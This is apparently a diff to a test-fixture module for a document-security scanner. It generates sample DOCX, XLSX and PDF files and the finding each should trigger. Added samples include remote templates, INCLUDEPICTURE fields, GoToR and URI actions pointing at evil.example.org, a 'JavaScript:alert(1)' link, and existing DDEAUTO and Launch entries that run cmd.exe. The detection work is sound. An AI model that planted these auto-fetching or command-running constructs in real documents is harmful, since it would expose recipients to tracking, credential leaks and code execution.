@@ -23,8 +23,8 @@ _KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 # --- archives -------------------------------------------------------------------------
 
 
-def related(kind: str, target: str, *, outside: bool = True, main: str = samples._WORD) -> bytes:
-    mode = ' TargetMode="External"' if outside else ""
+def related(kind: str, target: str, *, outside: str = "External", main: str = samples._WORD) -> bytes:
+    mode = f' TargetMode="{outside}"' if outside else ""
     rel = _RELS.format(f'<Relationship Id="r1" Type="{_KIND}/{kind}" Target="{target}"{mode}/>')
     return samples.office(main, **{"word/_rels/document.xml.rels": rel})
 
@@ -120,6 +120,28 @@ def _on_page(**action):
         opened.pages[0].Annots = pikepdf.Array([link])
 
     return change
+
+
+def opened_at_a_page_with_a_link(opened):
+    _on_page(S=pikepdf.Name.URI, URI="https://asean.org")(opened)
+    opened.Root.OpenAction = pikepdf.Array([opened.pages[0].obj, pikepdf.Name.Fit])
+
+
+def _opens(**action):
+    """What a reader's program does by itself when a page is shown, after something harmless."""
+
+    def change(opened):
+        then = pikepdf.Dictionary({f"/{key}": value for key, value in action.items()})
+        first = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=pikepdf.Array([then]))
+        opened.pages[0].AA = pikepdf.Dictionary(O=opened.make_indirect(first))
+
+    return change
+
+
+def _page_from_elsewhere(opened):
+    form = opened.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
+    form.Ref = pikepdf.Dictionary(F="//evil.example.org/a.pdf", Page=0)
+    opened.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=form))
 
 
 def _named_script(opened):
@@ -286,11 +308,17 @@ def files() -> dict[str, tuple[str, Callable[[], bytes], str]]:
         "macros in capitals": ("a.docx", lambda: samples.office(samples._WORD, **{"word/VBAPROJECT.BIN": "x"}), "macros"),
         "macros in the embedded": ("a.docx", lambda: embedding(samples.HIDDEN_MACRO, "word/embeddings/a.xlsx"), "macros"),
         "embedded object": ("a.docx", lambda: embedding(samples.OLD_WORD), _OBJECTS),
-        "embedded object in xlsx": ("a.xlsx", lambda: related("oleObject", "embeddings/a.bin", outside=False, main=samples._SHEET), _OBJECTS),
+        "embedded object in xlsx": ("a.xlsx", lambda: related("oleObject", "embeddings/a.bin", outside="", main=samples._SHEET), _OBJECTS),
         "activex": ("a.docx", lambda: typed('<Default ContentType="application/vnd.ms-office.activeX"/>'), _OBJECTS),
         "template from elsewhere": ("a.docx", lambda: related("attachedTemplate", "https://evil.example.org/a.dotm"), _ELSEWHERE),
         "object from elsewhere": ("a.docx", lambda: related("oleObject", "mhtml:https://evil.example.org/x!x-usc:"), _ELSEWHERE),
         "picture from elsewhere": ("a.docx", lambda: related("image", "//evil.example.org/a.png"), _ELSEWHERE),
+        "picture from elsewhere in small letters": ("a.docx", lambda: related("image", "//evil.example.org/a.png", outside="external"), _ELSEWHERE),
+        "picture that a field fetches": ("a.docx", lambda: field('<w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example.org/a.png"/>'), _ELSEWHERE),
+        "text that a field fetches": ("a.docx", lambda: field("<w:instrText>IncludeText //evil.example.org/a.docx</w:instrText>"), _ELSEWHERE),
+        "page of the web in a text": ("a.docx", lambda: related("aFChunk", "a.html", outside=""), _OBJECTS),
+        "program beside a text": ("a.docx", lambda: related("webextensiontaskpanes", "webextensions/taskpanes.xml", outside=""), _OBJECTS),
+        "figures that a workbook fetches": ("a.xlsx", lambda: typed('<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>', samples._SHEET), _ELSEWHERE),
         "workbook from elsewhere": ("a.xlsx", lambda: typed('<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>', samples._SHEET), _ELSEWHERE),
         "command in a field": ("a.docx", lambda: samples.office(samples._WORD, **{"word/document.xml": "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:p>"}), _ELSEWHERE),
         "command under another prefix": ("a.docx", lambda: field("<x:instrText>DDEAUTO c</x:instrText>"), _ELSEWHERE),
@@ -316,6 +344,14 @@ def files() -> dict[str, tuple[str, Callable[[], bytes], str]]:
         "starts a program": ("a.pdf", lambda: pdf(_acts(S=_NAME.Launch, F="cmd.exe")), _ACT),
         "sends a form": ("a.pdf", lambda: pdf(_on_page(S=_NAME.SubmitForm, F="https://evil.example.org")), _ACT),
         "opens an embedded file": ("a.pdf", lambda: pdf(_acts(S=_NAME.GoToE)), _ACT),
+        "opens a file elsewhere": ("a.pdf", lambda: pdf(_acts(S=_NAME.GoToR, F="//evil.example.org/a.pdf")), _ACT),
+        "leads to a file elsewhere": ("a.pdf", lambda: pdf(_on_page(S=_NAME.GoToR, F="//evil.example.org/a.pdf")), _ACT),
+        "leads to a thread elsewhere": ("a.pdf", lambda: pdf(_on_page(S=_NAME.Thread, F="//evil.example.org/a.pdf")), _ACT),
+        "opens a page of the web": ("a.pdf", lambda: pdf(_acts(S=_NAME.URI, URI="https://evil.example.org/?who")), _ACT),
+        "opens a page of the web in the end": ("a.pdf", lambda: pdf(_opens(S=_NAME.URI, URI="https://evil.example.org")), _ACT),
+        "script for an address": ("a.pdf", lambda: pdf(_on_page(S=_NAME.URI, URI=" JavaScript:alert(1)")), _ACT),
+        "file for an address": ("a.pdf", lambda: pdf(_on_page(S=_NAME.URI, URI="file://evil.example.org/a")), _ACT),
+        "a page from elsewhere": ("a.pdf", lambda: pdf(_page_from_elsewhere), _FILES),
         "carries a program": ("a.pdf", lambda: pdf(_carries), _FILES),
         "a file pinned to a page": ("a.pdf", lambda: pdf(_attached_to_page), _FILES),
         "content from elsewhere": ("a.pdf", lambda: pdf(_from_elsewhere), _FILES),
